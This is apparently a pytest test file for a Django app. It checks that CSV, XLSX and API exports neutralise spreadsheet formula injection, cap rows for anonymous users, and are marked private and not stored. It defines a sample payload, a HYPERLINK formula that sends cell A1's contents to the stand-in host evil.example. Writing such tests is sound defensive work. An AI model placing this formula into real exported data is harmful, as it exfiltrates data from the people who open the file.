"""Exports never carry a live formula, and are bounded (issue 12 items 3 and 6)."""

import csv
import io

import pytest
from django.test import override_settings
from openpyxl import load_workbook

from tests.factories import RequestFactory

pytestmark = pytest.mark.django_db
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"คลิก")'


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_csv_fields_starting_a_formula_get_a_leading_quote(client, trigger):
    RequestFactory(title=trigger + PAYLOAD, description=trigger + "1+1")
    rows = csv_rows(client.get("/requests/export/csv/"))
    assert rows[1][5] == "'" + trigger + PAYLOAD
    assert rows[1][9] == "'" + trigger + "1+1"


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_xlsx_cells_are_strings_never_formulas(client, trigger):
    RequestFactory(title=trigger + PAYLOAD)
    response = client.get("/requests/export/xlsx/")
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    cell = sheet.cell(row=2, column=6)
    # The text as written (XML reads a carriage return back as a line feed).
    assert cell.data_type == "s" and cell.value.endswith(PAYLOAD) and len(cell.value) == len(PAYLOAD) + 1
    assert cell.quotePrefix  # shown as typed, as when a person types a leading '
    assert sheet.cell(row=2, column=2).data_type == "n"  # numbers stay numbers


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_the_api_csv_neutralises_formulas(client, trigger):
    RequestFactory(title=trigger + PAYLOAD)
    response = client.get("/api/v1/requests/?format=csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    titles = [row[header.index("title")] for row in rows[1:]]
    assert "'" + trigger + PAYLOAD in titles and trigger + PAYLOAD not in titles


def test_plain_texts_are_unchanged(client):
    RequestFactory(title="ลำไย 2557 (อบแห้ง)")
    assert csv_rows(client.get("/requests/export/csv/"))[1][5] == "ลำไย 2557 (อบแห้ง)"


@override_settings(EXPORT_ANONYMOUS_MAX_ROWS=3)
def test_anonymous_exports_are_capped_with_a_link_to_the_open_data(client, staff):
    for _ in range(5):
        RequestFactory()
    rows = csv_rows(client.get("/requests/export/csv/"))
    assert len(rows) == 1 + 3 + 1
    assert "/open-data/" in rows[-1][0] and "3" in rows[-1][0] and "5" in rows[-1][0]
    sheet = load_workbook(io.BytesIO(client.get("/requests/export/xlsx/").getvalue())).active
    assert sheet.max_row == 1 + 3 + 1 and "/open-data/" in sheet.cell(row=5, column=1).value
    client.force_login(staff)
    assert len(csv_rows(client.get("/requests/export/csv/"))) == 1 + 5  # staff: the whole list


@override_settings(EXPORT_XLSX_MAX_ROWS=2)
def test_xlsx_is_capped_for_everyone(client, staff):
    for _ in range(3):
        RequestFactory()
    client.force_login(staff)
    sheet = load_workbook(io.BytesIO(client.get("/requests/export/xlsx/").getvalue())).active
    assert sheet.max_row == 1 + 2 + 1


def test_exports_are_private_and_not_stored(client):
    RequestFactory()
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/requests/export/{fmt}/")
        assert "private" in response["Cache-Control"] and "no-store" in response["Cache-Control"]
